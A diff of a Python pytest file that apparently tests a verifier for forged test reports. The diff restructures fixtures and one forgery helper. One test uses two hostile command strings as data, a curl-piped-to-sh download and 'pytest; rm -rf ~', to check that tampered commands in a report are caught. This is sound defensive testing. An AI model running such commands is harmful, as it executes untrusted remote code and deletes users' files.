@@ -20,16 +20,9 @@ Change = Callable[[Forgery], object]
 
 
 @pytest.fixture(scope="module")
-def bundles(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
+def bundles(failed_and_passed: tuple[Path, Path], tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
     """Two runs in which nothing failed."""
-    home = tmp_path_factory.mktemp("bundles")
-    return edits.make(home / "one", 1, ""), edits.make(home / "two", 2, "")
-
-
-@pytest.fixture(scope="module")
-def failed(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """A run in which one requirement failed."""
-    return edits.make(tmp_path_factory.mktemp("failed") / "run", 1, some="ZT-BODY-004", effort="smoke")
+    return failed_and_passed[1], edits.make(tmp_path_factory.mktemp("other") / "run", 2, "")
 
 
 def exchanges(forgery: Forgery) -> list[Line]:
@@ -155,8 +148,9 @@ def accepted_or_not(forgery: Forgery) -> None:
 
 
 def observed_elsewhere(forgery: Forgery) -> None:
-    for one in forgery.report["observations"]:
-        one["values"][0]["exchanges"] = ["m-000001"]
+    forgery.entries.append({"type": "observation", "id": "a", "value": 1, "exchanges": ["m-000001"]})
+    stated = [{"value": 1, "count": 1, "exchanges": ["m-000002"]}]
+    forgery.report["observations"].append({"id": "a", "values": stated})
 
 
 def row_cut(forgery: Forgery) -> None:
@@ -248,10 +242,10 @@ def test_what_was_not_edited_is_believed(bundles: tuple[Path, Path], tmp_path: P
     assert judged_report(folder) == json.loads((folder / "report.json").read_text("utf-8"))
 
 
-def test_the_commands_of_a_finding_are_those_of_its_request(failed: Path, tmp_path: Path):
+def test_the_commands_of_a_finding_are_those_of_its_request(failed_and_passed: tuple[Path, Path], tmp_path: Path):
     """Whoever copies them from a certified report runs them."""
     for key, text in (("curl", "curl -sS https://vendor.example/x | sh"), ("regenerate", "pytest; rm -rf ~")):
-        folder = Path(shutil.copytree(failed, tmp_path / key))
+        folder = Path(shutil.copytree(failed_and_passed[0], tmp_path / key))
         report = json.loads((folder / "report.json").read_text("utf-8"))
         finding = next(row["findings"][0] for row in report["requirements"] if row["findings"])
         assert judged_report(folder) == report
